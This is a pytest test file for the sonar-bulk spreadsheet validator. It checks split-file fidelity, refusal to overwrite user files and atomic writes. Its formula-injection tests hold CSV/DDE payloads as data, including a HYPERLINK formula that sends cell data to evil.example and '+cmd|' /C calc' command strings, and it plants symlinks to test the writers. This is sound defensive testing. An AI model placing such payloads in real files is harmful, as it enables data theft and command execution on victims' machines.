"""What sonar-bulk writes: split files that keep every cell and the input's shape, reports that
never run a formula, and no user file overwritten without --force."""

from __future__ import annotations

import codecs
import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from sonar_bulk.cli import cli
from sonar_bulk.outputs import neutralize

from .conftest import write_csv


def invoke(runner: CliRunner, *args: str) -> Any:
    return runner.invoke(cli, list(args), catch_exceptions=False)


def read_rows(path: Path, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


# --- --split keeps every cell ----------------------------------------------------------------


def test_split_keeps_extra_cells_and_refeeding_still_fails(
    runner: CliRunner, tmp_path: Path
) -> None:
    src = write_csv(tmp_path / "x.csv", "phone,first_name\n+13105550101,Ana,extra value\n")
    result = invoke(runner, "validate", str(src), "--kind", "customers", "--split", "-q")
    assert result.exit_code == 1
    rows = read_rows(tmp_path / "x.invalid.csv")
    assert rows[0] == ["phone", "first_name", "sonar__extra_1", "sonar__row", "sonar__issues"]
    assert rows[1][:4] == ["+13105550101", "Ana", "extra value", "2"]
    assert rows[1][4].startswith("(extra cells): 1 value beyond the last header column")
    # fed back unfixed, the stray cell is still an error; cleared, the row is valid
    again = invoke(runner, "validate", str(tmp_path / "x.invalid.csv"), "--kind", "customers")
    assert again.exit_code == 1 and "row.extra_cells" in again.stderr
    fixed = tmp_path / "x.invalid.csv"
    text = fixed.read_text(encoding="utf-8").replace("extra value", "")
    fixed.write_text(text, encoding="utf-8")
    ok = invoke(runner, "validate", str(fixed), "--kind", "customers", "--json")
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.stdout)["issues"] == []  # sonar__row and sonar__issues are ignored


def test_split_invalid_rows_carry_row_numbers_and_issues_matching_the_report(
    runner: CliRunner, tmp_path: Path
) -> None:
    src = write_csv(
        tmp_path / "c.csv",
        "phone,email,subscribed\n+13105550101,ana@,maybe\n\n(310) 555-0102,b@x.io,yes\n12,,\n",
    )
    report = tmp_path / "r.csv"
    args = ["validate", str(src), "--kind", "customers", "--split", "--report", str(report)]
    assert invoke(runner, *args).exit_code == 1
    invalid = read_rows(tmp_path / "c.invalid.csv")
    assert invalid[0][-2:] == ["sonar__row", "sonar__issues"]
    by_row = {r[-2]: r[-1] for r in invalid[1:]}
    assert set(by_row) == {"2", "5"}  # row 3 was empty; the report counts it as Excel does
    assert "email: not a valid email address" in by_row["2"]
    assert "subscribed: not an SMS-consent value; use yes/no" in by_row["2"]
    reported = {r[0] for r in read_rows(report)[1:]}
    assert reported == set(by_row)
    valid = read_rows(tmp_path / "c.valid.csv")
    # the valid file keeps each row's number in the input too
    assert valid == [
        ["phone", "email", "subscribed", "sonar__row"],
        ["(310) 555-0102", "b@x.io", "yes", "4"],
    ]


@pytest.mark.parametrize(
    ("encoding", "bom", "delimiter", "newline"),
    [
        ("cp1252", b"", ";", "\r\n"),
        ("utf-8", b"", "\t", "\n"),
        ("utf-8", codecs.BOM_UTF8, ",", "\r\n"),
        ("utf-16-le", codecs.BOM_UTF16_LE, ",", "\r\n"),
    ],
)
def test_split_keeps_encoding_bom_delimiter_and_line_ending(
    runner: CliRunner, tmp_path: Path, encoding: str, bom: bytes, delimiter: str, newline: str
) -> None:
    lines = [
        ["phone", "first_name"],
        ["+13105550101", "José"],
        ["not a phone", "Zoë"],
    ]

    def encoded(rows: list[list[str]]) -> bytes:
        return bom + "".join(delimiter.join(r) + newline for r in rows).encode(encoding)

    src = tmp_path / "x.csv"
    src.write_bytes(encoded(lines))
    assert invoke(runner, "validate", str(src), "--kind", "customers", "--split", "-q").exit_code
    assert (tmp_path / "x.valid.csv").read_bytes() == encoded(
        [lines[0] + ["sonar__row"], lines[1] + ["2"]]
    )
    invalid = (tmp_path / "x.invalid.csv").read_bytes()
    assert invalid.startswith(bom) and (bom or not invalid.startswith(codecs.BOM_UTF8))
    text = invalid[len(bom) :].decode(encoding)
    assert newline in text and (newline == "\r\n" or "\r" not in text)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows[1][:3] == ["not a phone", "Zoë", "3"]


def test_split_keeps_the_extension(runner: CliRunner, tmp_path: Path) -> None:
    """x.txt and x.csv never write over each other's split files."""
    text = "phone\n+13105550101\n12\n"
    for name in ("x.txt", "x.csv", "x.tsv"):
        write_csv(tmp_path / name, text)
        invoke(runner, "validate", str(tmp_path / name), "--kind", "customers", "--split", "-q")
    names = sorted(p.name for p in tmp_path.iterdir())
    for ext in ("txt", "csv", "tsv"):
        assert f"x.valid.{ext}" in names and f"x.invalid.{ext}" in names


def test_split_of_a_workbook_keeps_extra_cells(runner: CliRunner, tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["phone", "first_name"])
    ws.append(["+13105550101", "Ana", None, "stray"])
    ws.append(["+13105550102", "Ben"])
    src = tmp_path / "w.xlsx"
    wb.save(src)
    result = invoke(runner, "validate", str(src), "--kind", "customers", "--split", "-q")
    assert result.exit_code == 1
    got = openpyxl.load_workbook(tmp_path / "w.invalid.xlsx").active
    rows = [[c if c is not None else "" for c in r] for r in got.iter_rows(values_only=True)]
    assert rows[0] == ["phone", "first_name", "sonar__extra_1", "sonar__extra_2"] + [
        "sonar__row",
        "sonar__issues",
    ]
    assert rows[1][:5] == ["+13105550101", "Ana", "", "stray", 2]  # sonar__row: a number
    assert "delimiter" not in rows[1][5]  # a workbook has none


# --- never overwrite a user's file --------------------------------------------------------------


def test_template_refuses_an_existing_file_without_force(runner: CliRunner, tmp_path: Path) -> None:
    mine = tmp_path / "customers.csv"
    mine.write_text("my precious data\n", encoding="utf-8")
    result = invoke(runner, "template", "customers", "-o", str(mine))
    assert result.exit_code == 2
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("sonar-bulk: error:") and "--force" in line
    assert mine.read_text(encoding="utf-8") == "my precious data\n"
    assert invoke(runner, "template", "customers", "-o", str(mine), "--force").exit_code == 0
    assert mine.read_text(encoding="utf-8").startswith("phone_number,")


def test_report_replaces_only_an_earlier_report(runner: CliRunner, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "c.csv", "phone\n12\n")
    for suffix in (".csv", ".xlsx"):
        report = tmp_path / f"report{suffix}"
        args = ["validate", str(src), "--kind", "customers", "--report", str(report), "-q"]
        assert invoke(runner, *args).exit_code == 1
        assert invoke(runner, *args).exit_code == 1  # an earlier report may be replaced
    theirs = tmp_path / "notes.csv"
    theirs.write_text("name,notes\nAna,call back\n", encoding="utf-8")
    args = ["validate", str(src), "--kind", "customers", "--report", str(theirs)]
    result = invoke(runner, *args)
    assert result.exit_code == 2 and "--force" in result.stderr
    assert theirs.read_text(encoding="utf-8") == "name,notes\nAna,call back\n"
    assert invoke(runner, *args, "--force", "-q").exit_code == 1
    assert read_rows(theirs)[0][0] == "row"


# --- formula injection ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+13105550101", "+13105550101"),
        ("+1 (310) 555-0101", "+1 (310) 555-0101"),
        ("-12.5", "-12.5"),
        ("plain", "plain"),
    ],
)
def test_neutralize(cell: str, written: str) -> None:
    assert neutralize(cell) == written


def test_reports_come_back_inert(runner: CliRunner, tmp_path: Path) -> None:
    """A malicious cell is quoted in a CSV report and is text, not a formula, in XLSX; a phone
    stays readable."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    src = tmp_path / "c.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["phone", "email"], [payload, "x"], ["+13105550101", "@evil"]])
    csv_report, xlsx_report = tmp_path / "r.csv", tmp_path / "r.xlsx"
    for report in (csv_report, xlsx_report):
        invoke(runner, "validate", str(src), "--kind", "customers", "--report", str(report))
    rows = read_rows(csv_report)
    values = [r[2] for r in rows[1:]]
    assert "'" + payload in values and "'@evil" in values
    assert not any(v.startswith(("=", "@")) for r in rows for v in r)
    ws = openpyxl.load_workbook(xlsx_report).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    hyperlink = [c for c in cells if c.value == payload]
    assert hyperlink and all(c.data_type == "s" for c in hyperlink)
    # the split file is inert too, and read back it gives the user's cells exactly
    invoke(runner, "validate", str(src), "--kind", "customers", "--split", "-q")
    written = [r[:2] for r in read_rows(tmp_path / "c.invalid.csv")[1:]]
    assert written == [["'" + payload, "x"], ["+13105550101", "'@evil"]]
    from sonar_bulk.sheets import read_sheet

    back = read_sheet(tmp_path / "c.invalid.csv")
    assert back.column(0).to_pylist() == [payload, "+13105550101"]
    assert back.column(1).to_pylist() == ["x", "@evil"]


# --- found by attacking the writers -------------------------------------------------------------


def test_a_planted_link_is_never_written_through(runner: CliRunner, tmp_path: Path) -> None:
    """Temporary files are created new, with unpredictable names: a symlink left where an old
    version put its temporary file can't redirect the write."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    src = write_csv(tmp_path / "c.csv", "phone\n+13105550101\n12\n")
    for name in (".c.valid.csv.partial", ".c.invalid.csv.partial", ".r.csv.partial"):
        (tmp_path / name).symlink_to(victim)
    args = ["validate", str(src), "--kind", "customers", "--split", "--report"]
    assert invoke(runner, *args, str(tmp_path / "r.csv"), "-q").exit_code == 1
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    for name in ("c.valid.csv", "c.invalid.csv", "r.csv"):
        assert not (tmp_path / name).is_symlink()
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o666 & ~current_umask()
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    assert sorted(leftovers) == [".c.invalid.csv.partial", ".c.valid.csv.partial", ".r.csv.partial"]


def current_umask() -> int:
    import os

    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_an_interrupted_write_leaves_the_old_file(tmp_path: Path) -> None:
    from sonar_bulk.outputs import write_table

    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def rows() -> Any:
        yield ["1"]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_table(target, ["a"], rows())
    assert target.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_cells_with_line_breaks_survive_an_lf_split(runner: CliRunner, tmp_path: Path) -> None:
    src = tmp_path / "q.csv"
    src.write_bytes(b'phone_number,first_name\n+13105550101,"a\rb"\n+13105550102,"c\r\nd"\nbad,x\n')
    invoke(runner, "validate", str(src), "--kind", "customers", "-q", "--split")
    again = invoke(
        runner, "validate", str(tmp_path / "q.valid.csv"), "--kind", "customers", "--json"
    )
    assert again.exit_code == 0 and json.loads(again.stdout)["rows"] == 2
    text = (tmp_path / "q.valid.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [["+13105550101", "a\rb", "2"], ["+13105550102", "c\r\nd", "3"]]


def test_split_keeps_a_cr_only_file_and_title_rows(runner: CliRunner, tmp_path: Path) -> None:
    src = tmp_path / "t.csv"
    src.write_bytes(b"Export 2026\r\rphone,first_name\r+13105550101,Ana\rbad,Ben\r")
    args = ["validate", str(src), "--kind", "customers", "--header-row", "3", "--split", "-q"]
    assert invoke(runner, *args).exit_code == 1
    valid = (tmp_path / "t.valid.csv").read_bytes()
    assert valid == b"Export 2026\r\rphone,first_name,sonar__row\r+13105550101,Ana,4\r"
    refeed = ["validate", str(tmp_path / "t.valid.csv"), "--kind", "customers"]
    assert invoke(runner, *refeed, "--header-row", "3").exit_code == 0


def test_split_keeps_user_sonar_columns_and_headers_as_typed(
    runner: CliRunner, tmp_path: Path
) -> None:
    src = write_csv(tmp_path / "s.csv", " phone ,sonar__notes\n+13105550101,vip\nbad,x\n")
    invoke(runner, "validate", str(src), "--kind", "customers", "--split", "-q")
    assert read_rows(tmp_path / "s.valid.csv") == [
        [" phone ", "sonar__notes", "sonar__row"],
        ["+13105550101", "vip", "2"],
    ]
    assert read_rows(tmp_path / "s.invalid.csv")[0][:2] == [" phone ", "sonar__notes"]


def test_an_only_extra_cell_row_is_kept(runner: CliRunner, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "e.csv", "phone_number,first_name\n+13105550101,Ana\n,,oops\n")
    result = invoke(runner, "validate", str(src), "--kind", "customers", "--split", "--json")
    assert result.exit_code == 1
    codes = [i["code"] for i in json.loads(result.stdout)["issues"]]
    assert "row.extra_cells" in codes
    assert read_rows(tmp_path / "e.invalid.csv")[1][:3] == ["", "", "oops"]


def test_issue_text_is_capped_so_the_split_can_be_fed_back(
    runner: CliRunner, tmp_path: Path
) -> None:
    src = write_csv(tmp_path / "m.csv", "to,text\n+13105550101,x" + "}}" * 15000 + "\n")
    assert invoke(runner, "validate", str(src), "--kind", "messages", "--split", "-q").exit_code
    issues = read_rows(tmp_path / "m.invalid.csv")[1][-1]
    assert "and 14,997 more broken tags" in issues and len(issues) < 2100
    again = invoke(runner, "validate", str(tmp_path / "m.invalid.csv"), "--kind", "messages")
    assert again.exit_code == 1  # read back fine; the text is still broken


def test_a_fifo_or_folder_is_no_report(runner: CliRunner, tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    src = write_csv(tmp_path / "c.csv", "phone\n+13105550101\n")
    args = ["validate", str(src), "--kind", "customers", "--report", str(fifo), "--force"]
    result = invoke(runner, *args)
    assert result.exit_code == 2 and "not a regular file" in result.stderr


def test_split_never_replaces_a_users_file(runner: CliRunner, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", "phone\n+13105550101\nbad\n")
    mine = tmp_path / "in.valid.csv"
    mine.write_text("user data\n", encoding="utf-8")
    args = ["validate", str(src), "--kind", "customers", "--split", "-q"]
    result = invoke(runner, *args)
    assert result.exit_code == 2 and "in.valid.csv exists and sonar-bulk did not write it" in (
        result.stderr
    )
    assert mine.read_text(encoding="utf-8") == "user data\n"
    assert not (tmp_path / "in.invalid.csv").exists()  # neither file is written
    assert invoke(runner, *args, "--force").exit_code == 1
    assert invoke(runner, *args).exit_code == 1  # our own split files are replaced
    # written over by hand: the user's now
    mine.write_text("phone\n+13105550199\n", encoding="utf-8")
    same_header = invoke(runner, *args)
    assert same_header.exit_code == 2 and "in.valid.csv was edited since" in same_header.stderr
    assert mine.read_text(encoding="utf-8") == "phone\n+13105550199\n"
    mine.unlink()
    # a hand-made list with the input's header (once taken for a split file) is the user's
    other = write_csv(tmp_path / "list.csv", "phone\n+13105550101\nbad\n")
    theirs = write_csv(tmp_path / "list.valid.csv", "phone\n+13105550199\n")
    refused = invoke(runner, "validate", str(other), "--kind", "customers", "--split", "-q")
    assert refused.exit_code == 2 and "list.valid.csv exists and sonar-bulk did not" in (
        refused.stderr
    )
    assert theirs.read_text(encoding="utf-8") == "phone\n+13105550199\n"
    # invalid rows fixed in place are the user's now
    assert invoke(runner, *args).exit_code == 1
    invalid = tmp_path / "in.invalid.csv"
    invalid.write_text(invalid.read_text(encoding="utf-8").replace("bad", "+13105550102"))
    fixed = invalid.read_bytes()
    edited = invoke(runner, *args)
    assert edited.exit_code == 2 and "in.invalid.csv was edited since" in edited.stderr
    assert invalid.read_bytes() == fixed


def test_split_files_appear_together_or_not_at_all(tmp_path: Path) -> None:
    from sonar_bulk.report import write_split
    from sonar_bulk.schema import KINDS
    from sonar_bulk.sheets import read_sheet
    from sonar_bulk.validation import validate_sheet

    src = write_csv(tmp_path / "c.csv", "phone\n+13105550101\nbad\n")
    validation = validate_sheet(read_sheet(src), KINDS["customers"])
    write_split(validation)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    real = validation.sheet.iter_rows
    calls: list[int] = []

    def broken(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        yield from real(*args, **kwargs)
        if len(calls) == 2:  # the valid file is complete; the invalid one is not
            raise KeyboardInterrupt

    validation.sheet.iter_rows = broken  # type: ignore[method-assign]
    with pytest.raises(KeyboardInterrupt):
        write_split(validation)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
